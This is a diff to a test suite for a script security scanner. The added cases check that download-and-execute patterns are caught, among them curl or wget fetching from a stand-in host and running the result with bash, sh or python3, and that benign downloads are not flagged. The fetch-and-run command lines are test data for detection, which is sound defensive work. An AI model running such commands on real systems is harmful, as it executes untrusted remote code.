@@ -32,12 +32,26 @@ describe('download and execute', () => {
     expect(rules(sh('eval "$(wget -qO- https://x.example/i)"'))).toContain('script.download-exec')
   })
 
-  it('catches a download to a file that is then run', () => {
+  it('catches a download to a file that is then run, on the next line or after ; and &&', () => {
     const findings = sh('curl -sL https://x.example/t.sh -o /tmp/t.sh\nbash /tmp/t.sh\n')
     expect(findings.find((f) => f.rule === 'script.download-exec')).toMatchObject({
       severity: 'CRITICAL',
       line: 2,
     })
+    expect(rules(sh('curl -s https://x.example/i > /tmp/i.sh; sh /tmp/i.sh'))).toContain(
+      'script.download-exec',
+    )
+    expect(rules(sh('wget -qO /tmp/u https://x.example/u && chmod +x /tmp/u && /tmp/u'))).toContain(
+      'script.download-exec',
+    )
+    expect(rules(sh('curl -o page.html https://x.example/page.html'))).not.toContain('script.download-exec')
+  })
+
+  it('does not mistake piping JSON into a formatter for running code', () => {
+    expect(rules(sh('curl -s https://api.example.com/data | python3 -m json.tool'))).toEqual([
+      'script.network.undeclared',
+    ])
+    expect(rules(sh('curl -s https://x.example/i.py | python3 -'))).toContain('script.download-exec')
   })
 
   it('catches PowerShell iex of a web request', () => {
@@ -89,6 +103,8 @@ describe('reverse shells', () => {
       line: 1,
     })
     expect(severityOf(findings, 'script.process')).toBe('HIGH')
+    const split = scanScript('d.js', "const cp = require('child' + '_process')", 'js', EMPTY_CONTEXT)
+    expect(rules(split)).toEqual(['script.process'])
   })
 })
 
